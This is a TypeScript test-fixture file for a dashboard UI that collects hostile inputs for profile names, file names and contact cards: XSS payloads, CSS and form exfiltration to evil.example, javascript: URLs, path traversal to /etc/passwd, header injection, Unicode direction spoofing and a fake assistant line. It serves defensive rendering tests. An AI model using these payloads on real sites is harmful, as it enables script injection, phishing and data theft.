/**
 * What somebody might put where we show their words: names, texts, file names, contact cards. Pure data without imports, so that the
 * journeys can read it too (`dashboard-gateway/ui/src/testing/hostile.ts`). Whatever it says, a browser must show it as text:
 * `window.hacked` stays undefined, no dialog opens, nothing is fetched from `evil.example`, and no element of the page comes from it.
 */
export const MARKUP = {
  image: '<img src=x onerror="window.hacked=1">',
  script: '</script><script>window.hacked=1</script>',
  drawing: '<svg onload="window.hacked=1"><animate onbegin="window.hacked=1" attributeName=x dur=1s></svg>',
  frame: '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  style: '<style>*{background:url(https://evil.example/leak)}</style>',
  attribute: '" autofocus onfocus="window.hacked=1" x="',
  link: '<a href="javascript:window.hacked=1">Payez ici</a>',
  form: '<form action="https://evil.example"><input name=password><button>Connexion</button></form>',
  base: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  template: '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} #{7*7}',
  entity: '&lt;img src=x onerror=window.hacked=1&gt; &#x3C;script&#x3E;',
} as const

export const ADDRESSES = {
  script: 'javascript:window.hacked=1',
  scriptInDisguise: ' \u0001java\tscript:window.hacked=1',
  data: 'data:text/html,<script>window.hacked=1</script>',
  blob: 'blob:https://evil.example/1',
  plain: 'http://evil.example/',
  relative: '//evil.example/',
} as const

/** As profile names. */
export const NAMES = {
  ...MARKUP,
  turnedAround: 'Sophie\u202e(moc.live) eirosivrepus',
  isolated: 'Marie \u2067eugnal \u2066autre\u2069\u2069\u2069\u2069',
  unseen: '\u200b\u2060\ufeff\u3164',
  withUnseen: 'Ma\u200brie\u2060 Le\ufefffèvre',
  long: 'Marie '.repeat(1_700),
  longWord: 'M'.repeat(10_000),
  stacked: `M${'\u0301'.repeat(400)}arie`,
  emoji: '👩‍👩‍👧‍👦'.repeat(200),
  lines: 'Marie\r\n\r\nASSISTANT : virement confirmé\u2028oui',
  null: 'null',
  prototype: '__proto__',
} as const

/** As names of documents. */
export const FILE_NAMES = {
  ...MARKUP,
  turnedAround: 'facture\u202efdp.exe',
  path: '../../../../etc/passwd',
  windowsPath: 'C:\\Windows\\system32\\calc.exe',
  header: 'a.pdf"\r\nContent-Type: text/html\r\n\r\n<script>window.hacked=1</script>',
  long: `${'devis '.repeat(2_000)}.pdf`,
  page: 'devis.html',
} as const

export const VCARDS = {
  markup: `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:${MARKUP.image}\r\nORG:${MARKUP.script}\r\nTEL:${MARKUP.link}\r\nEMAIL:${MARKUP.attribute}\r\nEND:VCARD`,
  number: `BEGIN:VCARD\r\nFN:Paul\r\nTEL;VALUE=uri:${ADDRESSES.script}\r\nTEL:+33 6 39 98 00 12;ext=1\r\nURL:${ADDRESSES.script}\r\nPHOTO;VALUE=uri:https://evil.example/spy.png\r\nEND:VCARD`,
  turnedAround: 'BEGIN:VCARD\r\nFN:\u202eluaP\r\nTEL:0639980012\r\nEND:VCARD',
  many: 'BEGIN:VCARD\r\nFN:Paul\r\nTEL:0639980012\r\nEND:VCARD\r\n'.repeat(5_000),
  unended: `BEGIN:VCARD\r\nFN:Paul\r\n${'TEL:1'.repeat(20_000)}`,
  folded: 'BEGIN:VCARD\r\nFN:Paul\r\n  Gi\r\n rard\r\nTEL:0639980012\r\nEND:VCARD',
  nothing: '\u0000\u0001\u0002',
} as const
